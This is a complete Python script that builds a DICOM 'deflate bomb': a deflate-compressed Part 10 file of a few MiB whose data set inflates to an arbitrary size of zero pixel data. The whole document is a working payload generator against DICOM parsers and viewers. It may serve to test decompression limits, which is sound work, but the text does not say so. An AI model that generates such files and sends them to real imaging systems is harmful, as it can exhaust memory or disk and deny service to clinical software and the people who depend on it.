#!/usr/bin/env python3
"""Writes a Part 10 file in Deflated Explicit VR Little Endian whose data set inflates to
about SIZE MiB, nearly all of it zero pixel data, in a few MiB on disk (a "deflate bomb").
The data set is compressed as it is made: the writer never holds it whole.

  deflate_bomb.py OUT SIZE_MB SOP_INSTANCE_UID
"""
import struct
import sys
import zlib

out, size_mb, instance = sys.argv[1], int(sys.argv[2]), sys.argv[3]
ct, deflated = "1.2.840.10008.5.1.4.1.1.7", "1.2.840.10008.1.2.1.99"


def element(group, elem, vr, value):
    if isinstance(value, str):
        value = value.encode()
        if len(value) % 2:
            value += b"\0" if vr == "UI" else b" "
    if vr in ("OB", "OW", "SQ", "UN", "UT"):
        return struct.pack("<HH2sHI", group, elem, vr.encode(), 0, len(value)) + value
    return struct.pack("<HH2sH", group, elem, vr.encode(), len(value)) + value


meta_body = (element(2, 1, "OB", b"\0\1") + element(2, 2, "UI", ct) + element(2, 3, "UI", instance)
             + element(2, 0x10, "UI", deflated) + element(2, 0x12, "UI", "2.25.1"))
meta = element(2, 0, "UL", struct.pack("<I", len(meta_body))) + meta_body

rows = cols = 8192
frames = max(1, size_mb * (1 << 20) // (rows * cols))
header = (element(8, 0x16, "UI", ct) + element(8, 0x18, "UI", instance) + element(8, 0x60, "CS", "OT")
          + element(0x10, 0x10, "PN", "Bomb^Deflate") + element(0x10, 0x20, "LO", "BOMB")
          + element(0x20, 0xD, "UI", "2.25.9" + instance[-20:]) + element(0x20, 0xE, "UI", "2.25.8" + instance[-20:])
          + element(0x28, 2, "US", struct.pack("<H", 1)) + element(0x28, 4, "CS", "MONOCHROME2")
          + element(0x28, 8, "IS", str(frames)) + element(0x28, 0x10, "US", struct.pack("<H", rows))
          + element(0x28, 0x11, "US", struct.pack("<H", cols)) + element(0x28, 0x100, "US", struct.pack("<H", 8))
          + element(0x28, 0x101, "US", struct.pack("<H", 8)) + element(0x28, 0x102, "US", struct.pack("<H", 7))
          + element(0x28, 0x103, "US", struct.pack("<H", 0)))
pixel_bytes = rows * cols * frames
compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
with open(out, "wb") as f:
    f.write(b"\0" * 128 + b"DICM" + meta)
    f.write(compressor.compress(header + struct.pack("<HH2sHI", 0x7FE0, 0x10, b"OB", 0, pixel_bytes)))
    zeros = b"\0" * (1 << 20)
    for _ in range(pixel_bytes // len(zeros)):
        f.write(compressor.compress(zeros))
    f.write(compressor.compress(b"\0" * (pixel_bytes % len(zeros))))
    f.write(compressor.flush())
print(pixel_bytes)
